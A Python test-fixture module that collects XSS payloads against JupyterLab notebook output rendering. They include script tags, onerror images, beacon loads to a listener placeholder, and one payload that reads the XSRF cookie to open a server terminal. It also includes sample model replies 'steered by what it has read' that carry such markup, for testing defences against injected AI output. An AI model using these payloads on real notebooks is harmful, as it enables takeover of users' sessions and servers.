"""Attacks on JupyterLab's page by what a notebook shows, each as it reaches a stock kernel and ours.

In each payload ``NAME`` stands for the attack's name and ``NET`` for the
address of a listener.  A script that runs with the page's rights calls
``pwn('NAME')``, a function of the page; a load goes to ``NET/hit/NAME``.
"""

from __future__ import annotations

import json
from collections.abc import Iterable
from typing import Any

_IMAGE = "<img src=data:, onerror=\"pwn('NAME')\">"

Bundle = dict[str, Any]

DISPLAYS: dict[str, tuple[Bundle, Bundle]] = {
    "html_script": ({"text/html": "<script>pwn('NAME')</script>"}, {}),
    "html_isolated": (
        {"text/html": "<script>parent.pwn('NAME')</script>"},
        {"text/html": {"isolated": True}},
    ),
    "html_all_isolated": (
        {"text/html": "<script>parent.pwn('NAME')</script>"},
        {"isolated": True},
    ),
    "javascript": ({"application/javascript": "pwn('NAME')"}, {}),
    "javascript_old": ({"text/javascript": "pwn('NAME')"}, {}),
    "markdown_html": ({"text/markdown": f"so **it** {_IMAGE}"}, {}),
    "markdown_script": ({"text/markdown": "x\n\n<script>pwn('NAME')</script>\n"}, {}),
    "markdown_fence": ({"text/markdown": f"```\n\n```\n{_IMAGE}\n```\n"}, {}),
    "markdown_math": ({"text/markdown": f"$x$ {_IMAGE} $y$"}, {}),
    "markdown_backticks": ({"text/markdown": f"\\`{_IMAGE}\\`"}, {}),
    "markdown_image": ({"text/markdown": "![x](NET/hit/NAME)"}, {}),
    "html_image": ({"text/html": "<img src='NET/hit/NAME'>"}, {}),
    "html_style": ({"text/html": "<p style='background:url(NET/hit/NAME)'>x</p>"}, {}),
    "vega_data": (
        {
            "application/vnd.vegalite.v5+json": {
                "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
                "data": {"url": "NET/hit/NAME"},
                "mark": "point",
                "encoding": {"x": {"field": "a", "type": "quantitative"}},
            }
        },
        {},
    ),
    "html_form": (
        {"text/html": "<form action=\"javascript:pwn('NAME')\"><button>x</button></form>"},
        {},
    ),
    "command_button": (
        {"text/html": '<button data-commandlinker-command="terminal:create-new">x</button>'},
        {},
    ),
    "command_text": (
        {"text/html": '<b data-commandlinker-command="terminal:create-new">x</b>'},
        {},
    ),
    "server_api": (
        {
            "text/html": "<script>fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':"
            "document.cookie.match('_xsrf=([^;]+)')[1]}})</script>"
        },
        {},
    ),
}
"""What any code may publish: MIME bundle and metadata."""

TERMINALS = frozenset({"command_button", "command_text", "server_api"})
"""Those that open a terminal, of which the server keeps a list."""

PROGRAMS: dict[str, str] = {
    "payload_page": "get_ipython().payload_manager.write_payload("
    f"{{'source': 'page', 'start': 0, 'data': {{'text/html': {_IMAGE!r}}}}}, single=False)",
    "widget_html": "import ipywidgets\n"
    f"from IPython.display import display\ndisplay(ipywidgets.HTML({_IMAGE!r}))",
    "updated": "from IPython.display import display, HTML\n"
    f"display(HTML('<p>first</p>'), display_id='u').update(HTML({_IMAGE!r}))",
    "result": f"class Shown:\n    def _repr_html_(self):\n        return {_IMAGE!r}\nShown()",
}
"""Cells that do more than display."""

NEXT_INPUT = (
    "get_ipython().payload_manager.write_payload("
    "{'source': 'set_next_input', 'text': 'injected', 'replace': False}, single=False)"
)
"""A payload that writes a cell into the notebook."""

TERMINAL_LINK = "\x1b]8;;https://terminal-link.example/\x07read more\x1b]8;;\x07"
"""A link under a text of its own (OSC 8)."""

WORDS: dict[str, str] = {
    "words_html": f"I look {_IMAGE} at it.",
    "answer_html": f"It is *done* {_IMAGE}.",
    "answer_script": "Done.\n\n<script>pwn('NAME')</script>\n",
    "answer_image": "As ![seen](NET/hit/NAME) here.",
    "answer_link": "See [there](javascript:pwn('NAME')).",
    "unable_html": f"It cannot be done {_IMAGE}.",
}
"""Markdown that a model may write, steered by what it has read."""

WITHOUT_EFFECT = frozenset({"answer_link"})
"""Lab itself opens links elsewhere, where a script has no page: that we stop it proves nothing."""

CODE: dict[str, str] = {
    "code_fence": f"x = '''\n```\n\n{_IMAGE}\n'''",
    "code_indented_fence": f"x = '''\n   ```\n\n{_IMAGE}\n'''",
    "code_longer_fence": f"x = '''\n`````\n\n{_IMAGE}\n'''",
    "code_carriage_return": f"x = '''\r```\r\r{_IMAGE}\r'''",
    "code_math": f"x = r'''\n```\n\n$a$ {_IMAGE} $b$ @@0@@\n'''",
}
"""Code that a model may write, harmless when it runs, that wants out of where it is shown."""

NAMES: dict[str, str] = {"model_name": _IMAGE, "file_name": _IMAGE, "exception_name": _IMAGE}
"""Short texts that somebody else may choose and that a front shows."""


def filled(value: Any, name: str, net: str) -> Any:
    """``value`` with the attack's name and the listener's address in it."""
    text = json.dumps(value).replace("NAME", name).replace("NET", net)
    return json.loads(text)


def _publishing(bundles: Iterable[tuple[Bundle, Bundle]]) -> str:
    return (
        "from IPython.display import publish_display_data\n"
        f"for data, metadata in {list(bundles)!r}:\n"
        "    publish_display_data(data, metadata)"
    )


def hostile_cells(net: str) -> list[str]:
    """Cells of code with all that code can try, for either kernel."""
    shown = [filled(list(pair), name, net) for name, pair in DISPLAYS.items()]
    return [
        _publishing((data, metadata) for data, metadata in shown),
        *(filled(source, name, net) for name, source in PROGRAMS.items()),
        NEXT_INPUT,
        f"print({TERMINAL_LINK!r})",
    ]


def careless_cells(net: str) -> list[str]:
    """What a kernel does that leaves it to the page to show words, code and names."""
    words = [{"text/markdown": filled(text, name, net)} for name, text in WORDS.items()]
    code = [
        {"text/markdown": f"```python\n{filled(text, name, net)}\n```"}
        for name, text in CODE.items()
    ]
    names = [{"text/html": filled(text, name, net)} for name, text in NAMES.items()]
    return [_publishing((bundle, {}) for bundle in [*words, *code, *names])]


def replies(net: str) -> list[str]:
    """A model's side of two turns that bring ``WORDS``, ``CODE`` and ``NAMES`` in."""

    def step(code: str, words: str = "Next.") -> str:
        fence = "`" * 12
        return f"{words}\n\n{fence}python\n{code}\n{fence}\n"

    words = {name: filled(text, name, net) for name, text in WORDS.items()}
    names = {name: filled(text, name, net) for name, text in NAMES.items()}
    html = filled(f"{_IMAGE}", "step_html", net)
    answers = ("answer_html", "answer_script", "answer_image", "answer_link")
    return [
        step("1", words["words_html"]),
        *(step(filled(code, name, net)) for name, code in CODE.items()),
        step(f"from IPython.display import HTML\nHTML({html!r})"),
        step(f"open({names['file_name']!r}, 'w').close()"),
        step(f"raise type({names['exception_name']!r}, (Exception,), {{}})({html!r})"),
        "\n\n".join(words[name] for name in answers),
        f"UNABLE: {words['unable_html']}",
    ]
